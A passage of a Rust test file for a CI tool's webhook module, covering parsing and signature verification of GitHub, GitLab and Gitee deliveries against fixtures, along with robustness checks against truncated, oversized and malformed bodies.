//! `wharf_scm::webhook` against deliveries shaped as GitHub, GitLab and Gitee document
//! them (`tests/fixtures/webhooks/<provider>/<event>.json`), signed here the way each
//! provider signs, and against hostile ones.

use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::Sha256;
use wharf_core::model::GitEvent;
use wharf_scm::webhook::{
    Delivery, Event, GITEE_MAX_SKEW, MAX_BODY_BYTES, MergeAction, ParseError, Provider, VerifyError, branch_matches,
    event_kind, parse, verify,
};

/// The secret of GitHub's documented example.
const SECRET: &str = "It's a Secret to Everybody";
/// The server's clock in these tests (Unix ms), and Gitee's timestamp a second earlier.
const NOW_MS: i64 = 1_741_075_331_112;
const GITEE_TS: &str = "1741075330112";

const ZERO: &str = "0000000000000000000000000000000000000000";

fn fixture(path: &str) -> Vec<u8> {
    let full = format!("{}/tests/fixtures/webhooks/{path}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&full).unwrap_or_else(|e| panic!("{full}: {e}"))
}

/// A fixture as JSON, to be altered by a test and serialised again.
fn fixture_json(path: &str) -> Value {
    serde_json::from_slice(&fixture(path)).unwrap()
}

fn owned(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|&(name, value)| (name.to_string(), value.to_string())).collect()
}

fn hmac_sha256(key: &str, msg: &[u8]) -> Vec<u8> {
    let mut mac = <Hmac<Sha256> as KeyInit>::new_from_slice(key.as_bytes()).unwrap();
    mac.update(msg);
    mac.finalize().into_bytes().to_vec()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// `X-Hub-Signature-256` as GitHub computes it: hex HMAC-SHA256 of the raw body.
fn github_signature(secret: &str, body: &[u8]) -> String {
    format!("sha256={}", hex(&hmac_sha256(secret, body)))
}

/// `X-Gitee-Token` in signature mode as Gitee documents it: base64 of HMAC-SHA256 of
/// `timestamp + "\n" + secret`, keyed with the secret.
fn gitee_signature(secret: &str, timestamp: &str) -> String {
    STANDARD.encode(hmac_sha256(secret, format!("{timestamp}\n{secret}").as_bytes()))
}

/// The headers GitHub sends with `body`, signed with [`SECRET`].
fn github_headers(event: &str, body: &[u8]) -> Vec<(String, String)> {
    owned(&[
        ("content-type", "application/json"),
        ("user-agent", "GitHub-Hookshot/0f1e2d3"),
        ("x-github-delivery", "72d3162e-cc78-11e3-81ab-4c9367dc0958"),
        ("x-github-event", event),
        ("x-github-hook-id", "512093384"),
        ("x-hub-signature-256", &github_signature(SECRET, body)),
    ])
}

fn gitlab_headers(event: &str) -> Vec<(String, String)> {
    owned(&[
        ("content-type", "application/json"),
        ("user-agent", "GitLab/17.9.1"),
        ("x-gitlab-event", event),
        ("x-gitlab-event-uuid", "13792a34-cac6-4fda-95a8-c58e00a3954e"),
        ("x-gitlab-webhook-uuid", "8a9c5a3e-1c0f-4d59-9d2b-6e2f5bd1a7c3"),
        ("idempotency-key", "f5e5f430-f57b-4e6e-9fac-d9128cd7232f"),
        ("x-gitlab-instance", "https://gitlab.example.com"),
        ("x-gitlab-token", SECRET),
    ])
}

fn gitee_headers(event: &str) -> Vec<(String, String)> {
    owned(&[
        ("content-type", "application/json"),
        ("user-agent", "git-oschina-hook"),
        ("x-gitee-token", &gitee_signature(SECRET, GITEE_TS)),
        ("x-gitee-timestamp", GITEE_TS),
        ("x-gitee-ping", "false"),
        ("x-gitee-event", event),
        ("x-git-oschina-event", event),
    ])
}

fn headers_for(provider: Provider, event: &str, body: &[u8]) -> Vec<(String, String)> {
    match provider {
        Provider::GitHub => github_headers(event, body),
        Provider::GitLab => gitlab_headers(event),
        Provider::Gitee => gitee_headers(event),
    }
}

fn verify_now(provider: Provider, headers: &[(String, String)], body: &[u8], secret: &str) -> Result<(), VerifyError> {
    verify(provider, headers, body, secret, NOW_MS, GITEE_MAX_SKEW)
}

/// Verifies and parses a fixture as the server will: both must succeed.
fn deliver(provider: Provider, event: &str, path: &str) -> Delivery {
    let body = fixture(path);
    let headers = headers_for(provider, event, &body);
    verify_now(provider, &headers, &body, SECRET).unwrap_or_else(|e| panic!("{path}: {e}"));
    parse(provider, &headers, &body, MAX_BODY_BYTES).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn parse_value(provider: Provider, event: &str, payload: &Value) -> Result<Delivery, ParseError> {
    let body = serde_json::to_vec(payload).unwrap();
    parse(provider, &headers_for(provider, event, &body), &body, MAX_BODY_BYTES)
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

// ---------------------------------------------------------------- GitHub events

#[test]
fn github_push_to_a_branch() {
    let delivery = deliver(Provider::GitHub, "push", "github/push.json");
    assert_eq!(delivery.id, "72d3162e-cc78-11e3-81ab-4c9367dc0958");
    assert_eq!(
        delivery.event,
        Event::Push {
            repo_urls: strings(&["https://github.com/acme/wharf-demo.git", "git@github.com:acme/wharf-demo.git"]),
            branch: Some("main".into()),
            tag: None,
            commit: "77330bdbd7210dff076ce2ef87b0b125ec1d7da0".into(),
            before: "cb91ce375bc8fbbcbde5c0994164d8399f767c45".into(),
            sender: "meilin".into(),
            deleted: false,
        }
    );
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Push));
}

#[test]
fn github_tag_push_names_the_tagged_commit_not_the_tag_object() {
    let delivery = deliver(Provider::GitHub, "push", "github/push_tag.json");
    let Event::Push { branch, tag, commit, before, deleted, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!((branch.as_deref(), tag.as_deref()), (None, Some("v1.4.0")));
    assert_eq!(commit, "77330bdbd7210dff076ce2ef87b0b125ec1d7da0", "head_commit.id, not `after`");
    assert_eq!((before.as_str(), *deleted), (ZERO, false));
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Tag));
}

#[test]
fn github_branch_deletion_starts_nothing() {
    let delivery = deliver(Provider::GitHub, "push", "github/push_delete.json");
    let Event::Push { branch, commit, deleted, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!(branch.as_deref(), Some("feature/old-upload"));
    assert_eq!((commit.as_str(), *deleted), (ZERO, true));
    assert_eq!(event_kind(&delivery.event), None);
}

#[test]
fn github_tag_deletion_starts_nothing() {
    let mut payload = fixture_json("github/push_delete.json");
    payload["ref"] = json!("refs/tags/v1.4.0");
    let event = parse_value(Provider::GitHub, "push", &payload).unwrap().event;
    assert!(matches!(&event, Event::Push { tag: Some(t), deleted: true, .. } if t == "v1.4.0"), "{event:?}");
    assert_eq!(event_kind(&event), None);
}

#[test]
fn github_ping() {
    let delivery = deliver(Provider::GitHub, "ping", "github/ping.json");
    assert_eq!(delivery.event, Event::Ping);
    assert_eq!(event_kind(&delivery.event), None);
}

#[test]
fn github_pull_request_opened() {
    let delivery = deliver(Provider::GitHub, "pull_request", "github/pull_request_opened.json");
    assert_eq!(
        delivery.event,
        Event::Merge {
            action: MergeAction::Opened,
            repo_urls: strings(&["https://github.com/acme/wharf-demo.git", "git@github.com:acme/wharf-demo.git"]),
            source_repo_urls: strings(&[
                "https://github.com/kofi-a/wharf-demo.git",
                "git@github.com:kofi-a/wharf-demo.git"
            ]),
            source_branch: "feature/sse-logs".into(),
            target_branch: "main".into(),
            commit: "1a1afe878b33e968617959ce3f1f65a8de527100".into(),
            // The test merge GitHub computes for an open request is not reported.
            merge_commit: None,
            number: 42,
            sender: "kofi-a".into(),
        }
    );
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Merge));
}

#[test]
fn github_pull_request_synchronize_is_an_update() {
    let delivery = deliver(Provider::GitHub, "pull_request", "github/pull_request_synchronize.json");
    let Event::Merge { action, commit, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!(action, &MergeAction::Updated);
    assert_eq!(commit, "de11cc9dea959c212e9c82b1478c281d687c966c");
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Merge));
}

#[test]
fn github_pull_request_closed_and_merged() {
    let delivery = deliver(Provider::GitHub, "pull_request", "github/pull_request_closed_merged.json");
    let Event::Merge { action, commit, merge_commit, sender, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!(action, &MergeAction::Merged);
    assert_eq!(commit, "de11cc9dea959c212e9c82b1478c281d687c966c");
    assert_eq!(merge_commit.as_deref(), Some("71e0c07e9e115e4b9e30691c238642ea126a1e48"));
    assert_eq!(sender, "meilin");
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Merge));
}

#[test]
fn github_pull_request_closed_without_merge_or_edited_starts_nothing() {
    let mut payload = fixture_json("github/pull_request_closed_merged.json");
    payload["pull_request"]["merged"] = json!(false);
    let closed = parse_value(Provider::GitHub, "pull_request", &payload).unwrap().event;
    assert!(matches!(&closed, Event::Merge { action: MergeAction::Closed, merge_commit: None, .. }), "{closed:?}");
    assert_eq!(event_kind(&closed), None);

    for (name, action) in [("edited", MergeAction::Edited), ("labeled", MergeAction::Other("labeled".into()))] {
        let mut payload = fixture_json("github/pull_request_opened.json");
        payload["action"] = json!(name);
        let event = parse_value(Provider::GitHub, "pull_request", &payload).unwrap().event;
        assert!(matches!(&event, Event::Merge { action: a, .. } if *a == action), "{event:?}");
        assert_eq!(event_kind(&event), None);
    }
}

#[test]
fn github_pull_request_from_a_deleted_fork() {
    let mut payload = fixture_json("github/pull_request_opened.json");
    payload["pull_request"]["head"]["repo"] = Value::Null;
    let event = parse_value(Provider::GitHub, "pull_request", &payload).unwrap().event;
    assert!(matches!(&event, Event::Merge { source_repo_urls, .. } if source_repo_urls.is_empty()), "{event:?}");
}

// ---------------------------------------------------------------- GitLab events

#[test]
fn gitlab_push_hook() {
    let delivery = deliver(Provider::GitLab, "Push Hook", "gitlab/push.json");
    assert_eq!(delivery.id, "f5e5f430-f57b-4e6e-9fac-d9128cd7232f", "Idempotency-Key comes first");
    assert_eq!(
        delivery.event,
        Event::Push {
            repo_urls: strings(&[
                "https://gitlab.example.com/platform/wharf-demo.git",
                "git@gitlab.example.com:platform/wharf-demo.git"
            ]),
            branch: Some("main".into()),
            tag: None,
            commit: "a6eb8c9ebd69fe29d76d4330f1446beab0c11fde".into(),
            before: "cb91ce375bc8fbbcbde5c0994164d8399f767c45".into(),
            sender: "jweber".into(),
            deleted: false,
        }
    );
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Push));
}

#[test]
fn gitlab_tag_push_hook_names_the_tagged_commit() {
    let delivery = deliver(Provider::GitLab, "Tag Push Hook", "gitlab/tag_push.json");
    let Event::Push { tag, commit, deleted, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!(tag.as_deref(), Some("v2.0.0-rc.1"));
    assert_eq!(commit, "a6eb8c9ebd69fe29d76d4330f1446beab0c11fde", "checkout_sha, not `after`");
    assert!(!deleted);
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Tag));
}

#[test]
fn gitlab_branch_deletion_starts_nothing() {
    let delivery = deliver(Provider::GitLab, "Push Hook", "gitlab/push_delete.json");
    let Event::Push { branch, commit, deleted, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!(branch.as_deref(), Some("spike/grpc"));
    assert_eq!((commit.as_str(), *deleted), (ZERO, true));
    assert_eq!(event_kind(&delivery.event), None);
}

#[test]
fn gitlab_merge_request_open() {
    let delivery = deliver(Provider::GitLab, "Merge Request Hook", "gitlab/merge_request_open.json");
    assert_eq!(
        delivery.event,
        Event::Merge {
            action: MergeAction::Opened,
            repo_urls: strings(&[
                "https://gitlab.example.com/platform/wharf-demo.git",
                "git@gitlab.example.com:platform/wharf-demo.git"
            ]),
            source_repo_urls: strings(&[
                "https://gitlab.example.com/jweber/wharf-demo.git",
                "git@gitlab.example.com:jweber/wharf-demo.git"
            ]),
            source_branch: "fix/timer-dst".into(),
            target_branch: "main".into(),
            commit: "4a0fe75d2a9eba0cdf561d802a759159fb7ff337".into(),
            merge_commit: None,
            number: 17,
            sender: "jweber".into(),
        }
    );
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Merge));
}

#[test]
fn gitlab_merge_request_update_with_new_commits() {
    let delivery = deliver(Provider::GitLab, "Merge Request Hook", "gitlab/merge_request_update.json");
    let Event::Merge { action, commit, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!(action, &MergeAction::Updated);
    assert_eq!(commit, "e049548e8a0a8c9632ea6928f6236bf2504b74ba");
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Merge));
}

#[test]
fn gitlab_merge_request_update_without_commits_is_an_edit() {
    let mut payload = fixture_json("gitlab/merge_request_update.json");
    payload["object_attributes"].as_object_mut().unwrap().remove("oldrev");
    let event = parse_value(Provider::GitLab, "Merge Request Hook", &payload).unwrap().event;
    assert!(matches!(&event, Event::Merge { action: MergeAction::Edited, .. }), "{event:?}");
    assert_eq!(event_kind(&event), None);

    payload["object_attributes"]["action"] = json!("approved");
    let event = parse_value(Provider::GitLab, "Merge Request Hook", &payload).unwrap().event;
    assert!(matches!(&event, Event::Merge { action: MergeAction::Other(a), .. } if a == "approved"), "{event:?}");
}

#[test]
fn gitlab_merge_request_merge() {
    let delivery = deliver(Provider::GitLab, "Merge Request Hook", "gitlab/merge_request_merge.json");
    let Event::Merge { action, merge_commit, number, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!(action, &MergeAction::Merged);
    assert_eq!(merge_commit.as_deref(), Some("f0e3cd972e81d66d346c6e2ba02fdaa1ad864c44"));
    assert_eq!(*number, 17);
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Merge));
}

#[test]
fn gitlab_delivery_id_falls_back_to_the_event_uuid() {
    let body = fixture("gitlab/push.json");
    let headers: Vec<_> = gitlab_headers("Push Hook").into_iter().filter(|(n, _)| n != "idempotency-key").collect();
    let delivery = parse(Provider::GitLab, &headers, &body, MAX_BODY_BYTES).unwrap();
    assert_eq!(delivery.id, "13792a34-cac6-4fda-95a8-c58e00a3954e");
}

// ---------------------------------------------------------------- Gitee events

#[test]
fn gitee_push_hook() {
    let delivery = deliver(Provider::Gitee, "Push Hook", "gitee/push.json");
    assert!(delivery.id.starts_with("sha256:") && delivery.id.len() == 71, "no id header: {}", delivery.id);
    assert_eq!(
        delivery.event,
        Event::Push {
            repo_urls: strings(&["https://gitee.com/kaiyuan/wharf-demo.git", "git@gitee.com:kaiyuan/wharf-demo.git"]),
            branch: Some("master".into()),
            tag: None,
            commit: "377b9aa2bb2edb20035b73993fd4235992edcf45".into(),
            before: "cb91ce375bc8fbbcbde5c0994164d8399f767c45".into(),
            sender: "zhangwei".into(),
            deleted: false,
        }
    );
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Push));
}

#[test]
fn gitee_tag_push_hook() {
    let delivery = deliver(Provider::Gitee, "Tag Push Hook", "gitee/tag_push.json");
    let Event::Push { tag, commit, .. } = &delivery.event else { panic!("{delivery:?}") };
    assert_eq!(tag.as_deref(), Some("v0.9.1"));
    assert_eq!(commit, "377b9aa2bb2edb20035b73993fd4235992edcf45");
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Tag));
}

#[test]
fn gitee_branch_deletion_starts_nothing() {
    let mut payload = fixture_json("gitee/push.json");
    payload["after"] = json!(ZERO);
    payload["deleted"] = json!(false); // the all-zero `after` alone says it
    payload["head_commit"] = Value::Null;
    let event = parse_value(Provider::Gitee, "Push Hook", &payload).unwrap().event;
    assert!(matches!(&event, Event::Push { deleted: true, .. }), "{event:?}");
    assert_eq!(event_kind(&event), None);
}

#[test]
fn gitee_merge_request_hook() {
    let delivery = deliver(Provider::Gitee, "Merge Request Hook", "gitee/merge_request_open.json");
    assert_eq!(
        delivery.event,
        Event::Merge {
            action: MergeAction::Opened,
            repo_urls: strings(&["https://gitee.com/kaiyuan/wharf-demo.git", "git@gitee.com:kaiyuan/wharf-demo.git"]),
            source_repo_urls: strings(&[
                "https://gitee.com/lihua/wharf-demo.git",
                "git@gitee.com:lihua/wharf-demo.git"
            ]),
            source_branch: "feature/gitee-login".into(),
            target_branch: "master".into(),
            commit: "de11cc9dea959c212e9c82b1478c281d687c966c".into(),
            merge_commit: None,
            number: 7,
            sender: "lihua".into(),
        }
    );
    assert_eq!(event_kind(&delivery.event), Some(GitEvent::Merge));

    let updated = deliver(Provider::Gitee, "Merge Request Hook", "gitee/merge_request_update.json").event;
    assert!(
        matches!(&updated, Event::Merge { action: MergeAction::Updated, commit, .. } if commit == "cc11d357c30d8b7628dbd25e63b229f1c4069545")
    );

    let merged = deliver(Provider::Gitee, "Merge Request Hook", "gitee/merge_request_merge.json").event;
    let Event::Merge { action, merge_commit, sender, .. } = &merged else { panic!("{merged:?}") };
    assert_eq!(
        (action, merge_commit.as_deref()),
        (&MergeAction::Merged, Some("71e0c07e9e115e4b9e30691c238642ea126a1e48"))
    );
    assert_eq!(sender, "kaiyuan");
}

#[test]
fn gitee_label_change_is_an_edit() {
    let mut payload = fixture_json("gitee/merge_request_update.json");
    payload["action_desc"] = json!("update_label");
    let event = parse_value(Provider::Gitee, "Merge Request Hook", &payload).unwrap().event;
    assert!(matches!(&event, Event::Merge { action: MergeAction::Edited, .. }), "{event:?}");
    assert_eq!(event_kind(&event), None);
}

#[test]
fn gitee_test_button_is_a_ping_and_hook_name_spellings_are_understood() {
    let body = fixture("gitee/push.json");
    let mut headers = gitee_headers("push_hooks");
    assert!(matches!(parse(Provider::Gitee, &headers, &body, MAX_BODY_BYTES).unwrap().event, Event::Push { .. }));
    headers.retain(|(n, _)| n != "x-gitee-ping");
    headers.push(("x-gitee-ping".into(), "true".into()));
    assert_eq!(parse(Provider::Gitee, &headers, &body, MAX_BODY_BYTES).unwrap().event, Event::Ping);
}

#[test]
fn gitee_delivery_header_is_used_when_sent() {
    let body = fixture("gitee/push.json");
    let mut headers = gitee_headers("Push Hook");
    headers.push(("x-gitee-delivery".into(), "b1a2c3d4".into()));
    assert_eq!(parse(Provider::Gitee, &headers, &body, MAX_BODY_BYTES).unwrap().id, "b1a2c3d4");
}

#[test]
fn the_body_digest_id_is_stable_and_distinct() {
    let body = fixture("gitee/push.json");
    let id = |body: &[u8]| parse(Provider::Gitee, &gitee_headers("Push Hook"), body, MAX_BODY_BYTES).unwrap().id;
    assert_eq!(id(&body), id(&body));
    assert_ne!(id(&body), id(&fixture("gitee/tag_push.json")));
}

// ---------------------------------------------------------------- signatures

#[test]
fn github_documented_example_verifies() {
    // docs.github.com, "Validating webhook deliveries": this secret and payload give
    // this signature.
    let headers =
        owned(&[("x-hub-signature-256", "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17")]);
    assert_eq!(verify_now(Provider::GitHub, &headers, b"Hello, World!", SECRET), Ok(()));
    assert_eq!(
        verify_now(Provider::GitHub, &headers, b"Hello, World?", SECRET),
        Err(VerifyError::Mismatch { header: "x-hub-signature-256" })
    );
}

#[test]
fn github_signatures() {
    let body = fixture("github/push.json");
    let headers = github_headers("push", &body);
    let header = "x-hub-signature-256";
    assert_eq!(verify_now(Provider::GitHub, &headers, &body, SECRET), Ok(()));
    assert_eq!(verify_now(Provider::GitHub, &headers, &body, "wrong secret"), Err(VerifyError::Mismatch { header }));

    let mut tampered = body.clone();
    let at = tampered.windows(4).position(|w| w == b"main").unwrap();
    tampered[at..at + 4].copy_from_slice(b"prod");
    assert_eq!(verify_now(Provider::GitHub, &headers, &tampered, SECRET), Err(VerifyError::Mismatch { header }));

    let without: Vec<_> = headers.iter().filter(|(n, _)| n != header).cloned().collect();
    assert_eq!(verify_now(Provider::GitHub, &without, &body, SECRET), Err(VerifyError::MissingHeader { header }));

    // The legacy SHA-1 header alone is not enough.
    let mut sha1_only = without.clone();
    sha1_only.push(("x-hub-signature".into(), "sha1=5d61605c3feea9799210ddcb71307d4ba264225f".into()));
    assert_eq!(verify_now(Provider::GitHub, &sha1_only, &body, SECRET), Err(VerifyError::MissingHeader { header }));

    let good = github_signature(SECRET, &body);
    let upper = format!("sha256={}", good["sha256=".len()..].to_ascii_uppercase());
    for (value, ok) in [
        (upper.as_str(), true),
        (&good["sha256=".len()..], false),               // no prefix
        (&good[..good.len() - 2], false),                // 63 hex digits
        (&format!("{good}00"), false),                   // 65
        (&format!("sha256={}", "zz".repeat(32)), false), // not hex
        (&format!("sha1={}", &good["sha256=".len()..]), false),
        ("sha256=", false),
        ("", false),
        ("sha256=é7107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e1", false),
    ] {
        let headers = owned(&[(header, value)]);
        let got = verify_now(Provider::GitHub, &headers, &body, SECRET);
        if ok {
            assert_eq!(got, Ok(()), "{value}");
        } else {
            assert!(
                matches!(got, Err(VerifyError::Malformed { header: "x-hub-signature-256", .. })),
                "{value}: {got:?}"
            );
        }
    }

    let mut twice = headers.clone();
    twice.push((header.into(), good.clone()));
    assert!(matches!(verify_now(Provider::GitHub, &twice, &body, SECRET), Err(VerifyError::Malformed { .. })));
}

#[test]
fn gitlab_tokens() {
    let body = fixture("gitlab/push.json");
    let header = "x-gitlab-token";
    let with = |token: &str| owned(&[("x-gitlab-event", "Push Hook"), (header, token)]);
    assert_eq!(verify_now(Provider::GitLab, &with(SECRET), &body, SECRET), Ok(()));
    // The token does not sign the body: a changed body still verifies.
    assert_eq!(verify_now(Provider::GitLab, &with(SECRET), b"{}", SECRET), Ok(()));
    for wrong in ["wrong secret", &SECRET[..SECRET.len() - 1], &format!("{SECRET}x"), &SECRET.to_uppercase(), ""] {
        assert_eq!(
            verify_now(Provider::GitLab, &with(wrong), &body, SECRET),
            Err(VerifyError::Mismatch { header }),
            "{wrong}"
        );
    }
    assert_eq!(
        verify_now(Provider::GitLab, &owned(&[("x-gitlab-event", "Push Hook")]), &body, SECRET),
        Err(VerifyError::MissingHeader { header })
    );
}

#[test]
fn gitee_signature_mode() {
    let body = fixture("gitee/push.json");
    let headers = gitee_headers("Push Hook");
    assert_eq!(verify_now(Provider::Gitee, &headers, &body, SECRET), Ok(()));
    assert_eq!(
        verify_now(Provider::Gitee, &headers, &body, "wrong secret"),
        Err(VerifyError::Mismatch { header: "x-gitee-token" })
    );

    // As the documented algorithm's last step writes it: URL-encoded.
    let signature = gitee_signature(SECRET, GITEE_TS);
    let encoded = signature.replace('+', "%2B").replace('/', "%2F").replace('=', "%3D");
    assert_ne!(encoded, signature, "the example should exercise the decoding");
    let with = |token: &str, timestamp: &str| {
        owned(&[("x-gitee-event", "Push Hook"), ("x-gitee-token", token), ("x-gitee-timestamp", timestamp)])
    };
    assert_eq!(verify_now(Provider::Gitee, &with(&encoded, GITEE_TS), &body, SECRET), Ok(()));

    // A signature is bound to its timestamp.
    assert_eq!(
        verify_now(Provider::Gitee, &with(&signature, "1741075330113"), &body, SECRET),
        Err(VerifyError::Mismatch { header: "x-gitee-token" })
    );
    // Without the timestamp a signature is just a wrong password.
    assert_eq!(
        verify_now(Provider::Gitee, &owned(&[("x-gitee-token", &signature)]), &body, SECRET),
        Err(VerifyError::Mismatch { header: "x-gitee-token" })
    );
    for bad in ["", "soon", "-1741075330112", "1741075330112.5", "1 2", "99999999999999999999"] {
        let got = verify_now(Provider::Gitee, &with(&signature, bad), &body, SECRET);
        assert!(matches!(got, Err(VerifyError::Malformed { header: "x-gitee-timestamp", .. })), "{bad:?}: {got:?}");
    }
    assert_eq!(
        verify_now(Provider::Gitee, &owned(&[("x-gitee-timestamp", GITEE_TS)]), &body, SECRET),
        Err(VerifyError::MissingHeader { header: "x-gitee-token" })
    );
    for not_base64 in ["%zz", "%2", "not base64!", "AAAA"] {
        assert_eq!(
            verify_now(Provider::Gitee, &with(not_base64, GITEE_TS), &body, SECRET),
            Err(VerifyError::Mismatch { header: "x-gitee-token" }),
            "{not_base64}"
        );
    }
}

#[test]
fn gitee_stale_or_future_timestamps_are_refused() {
    let body = fixture("gitee/push.json");
    let hour: i64 = 3_600_000;
    let signed_at = |ms: i64| {
        let ts = ms.to_string();
        owned(&[("x-gitee-token", &gitee_signature(SECRET, &ts)), ("x-gitee-timestamp", &ts)])
    };
    for (age, ok) in
        [(0, true), (hour, true), (-hour, true), (hour + 1, false), (-hour - 1, false), (30 * 24 * hour, false)]
    {
        let got = verify(Provider::Gitee, &signed_at(NOW_MS - age), &body, SECRET, NOW_MS, GITEE_MAX_SKEW);
        if ok {
            assert_eq!(got, Ok(()), "age {age}");
        } else {
            assert_eq!(
                got,
                Err(VerifyError::Stale { header: "x-gitee-timestamp", skew: age, window: GITEE_MAX_SKEW }),
                "age {age}"
            );
        }
    }
    let old =
        verify(Provider::Gitee, &signed_at(NOW_MS - 2 * hour), &body, SECRET, NOW_MS, GITEE_MAX_SKEW).unwrap_err();
    assert!(old.to_string().contains("2 h behind the server's clock"), "{old}");
    // The window is the caller's.
    let tight = Duration::from_secs(60);
    assert!(verify(Provider::Gitee, &signed_at(NOW_MS - 61_000), &body, SECRET, NOW_MS, tight).is_err());
    assert!(verify(Provider::Gitee, &signed_at(NOW_MS - 59_000), &body, SECRET, NOW_MS, tight).is_ok());
}

#[test]
fn gitee_password_mode() {
    let body = fixture("gitee/push.json");
    // Gitee sends a timestamp in password mode too.
    let headers = owned(&[("x-gitee-token", SECRET), ("x-gitee-timestamp", "1")]);
    assert_eq!(verify_now(Provider::Gitee, &headers, &body, SECRET), Ok(()));
    assert_eq!(verify_now(Provider::Gitee, &owned(&[("x-gitee-token", SECRET)]), &body, SECRET), Ok(()));
    assert_eq!(
        verify_now(Provider::Gitee, &owned(&[("x-gitee-token", "guess")]), &body, SECRET),
        Err(VerifyError::Mismatch { header: "x-gitee-token" })
    );
}

#[test]
fn an_empty_secret_verifies_nothing() {
    for provider in Provider::ALL {
        let headers = owned(&[("x-gitlab-token", ""), ("x-gitee-token", ""), ("x-hub-signature-256", "sha256=")]);
        assert_eq!(verify_now(provider, &headers, b"{}", ""), Err(VerifyError::NoSecret), "{provider}");
    }
}

#[test]
fn no_verification_error_shows_the_secret_or_the_token() {
    let secret = "hunter2-very-secret";
    let sent = "hunter2-very-secreT";
    let errors = [
        verify_now(Provider::GitLab, &owned(&[("x-gitlab-token", sent)]), b"", secret),
        verify_now(Provider::Gitee, &owned(&[("x-gitee-token", sent), ("x-gitee-timestamp", "x")]), b"", secret),
        verify_now(Provider::Gitee, &owned(&[("x-gitee-token", sent), ("x-gitee-timestamp", GITEE_TS)]), b"", secret),
        verify_now(Provider::GitHub, &owned(&[("x-hub-signature-256", sent)]), b"", secret),
        verify_now(Provider::GitHub, &owned(&[("x-hub-signature-256", &github_signature(sent, b""))]), b"", secret),
        verify_now(Provider::GitHub, &[], b"", secret),
    ];
    for error in errors {
        let text = error.unwrap_err().to_string();
        assert!(!text.contains("hunter2"), "{text}");
        assert!(!text.contains("sha256=") || text.contains("`sha256=` followed"), "{text}");
    }
}

#[test]
fn secrets_travel_in_these_headers() {
    assert_eq!(Provider::GitHub.secret_headers(), [] as [&str; 0]);
    assert_eq!(Provider::GitLab.secret_headers(), ["x-gitlab-token"]);
    assert_eq!(Provider::Gitee.secret_headers(), ["x-gitee-token"]);
}

// ---------------------------------------------------------------- hostile deliveries

const SUPPORTED: [(Provider, &str, &str); 3] = [
    (Provider::GitHub, "push", "github/push.json"),
    (Provider::GitLab, "Push Hook", "gitlab/push.json"),
    (Provider::Gitee, "Push Hook", "gitee/push.json"),
];

#[test]
fn truncated_json_is_refused() {
    for (provider, event, path) in SUPPORTED {
        let body = fixture(path);
        let cut = &body[..body.len() / 2];
        match parse(provider, &headers_for(provider, event, cut), cut, MAX_BODY_BYTES) {
            Err(err @ ParseError::InvalidJson { .. }) => {
                assert!(err.to_string().contains("EOF while parsing"), "{provider}: {err}")
            }
            other => panic!("{provider}: {other:?}"),
        }
    }
}

#[test]
fn every_truncation_and_corruption_is_an_error_not_a_panic() {
    for (provider, event, path) in SUPPORTED {
        let body = fixture(path);
        let headers = headers_for(provider, event, &body);
        for len in (0..body.len() - 2).step_by(7) {
            assert!(parse(provider, &headers, &body[..len], MAX_BODY_BYTES).is_err(), "{provider} cut at {len}");
        }
        for at in (0..body.len()).step_by(13) {
            let mut corrupt = body.clone();
            corrupt[at] = corrupt[at].wrapping_add(0x80);
            let _ = parse(provider, &headers, &corrupt, MAX_BODY_BYTES);
            let _ = verify_now(provider, &headers, &corrupt, SECRET);
        }
    }
}

#[test]
fn a_body_over_the_limit_is_refused_before_parsing() {
    for (provider, event, path) in SUPPORTED {
        let mut body = fixture(path);
        // Padded with JSON whitespace: exactly the limit still parses.
        body.resize(MAX_BODY_BYTES, b' ');
        let headers = headers_for(provider, event, &body);
        assert!(parse(provider, &headers, &body, MAX_BODY_BYTES).is_ok(), "{provider}");
        body.push(b' ');
        match parse(provider, &headers, &body, MAX_BODY_BYTES) {
            Err(ParseError::TooLarge { size, limit }) => {
                assert_eq!((size, limit), (MAX_BODY_BYTES + 1, MAX_BODY_BYTES))
            }
            other => panic!("{provider}: {other:?}"),
        }
    }
    // Refused on size alone, whatever the content.
    let huge = vec![0xff; MAX_BODY_BYTES + 1];
    let err = parse(Provider::GitHub, &github_headers("ping", &[]), &huge, MAX_BODY_BYTES).unwrap_err();
    assert_eq!(
        err.to_string(),
        format!("the body has {} bytes; at most {MAX_BODY_BYTES} are accepted", MAX_BODY_BYTES + 1)
    );
}

#[test]
fn invalid_utf8_is_refused() {
    for (provider, event, path) in SUPPORTED {
        let mut body = fixture(path);
        body.splice(10..10, [0xc3, 0x28]);
        match parse(provider, &headers_for(provider, event, &body), &body, MAX_BODY_BYTES) {
            Err(ParseError::NotUtf8 { valid_up_to }) => assert_eq!(valid_up_to, 10),
            other => panic!("{provider}: {other:?}"),
        }
    }
}

#[test]
fn json_of_the_wrong_shape_is_refused() {
    for (provider, event, _) in SUPPORTED {
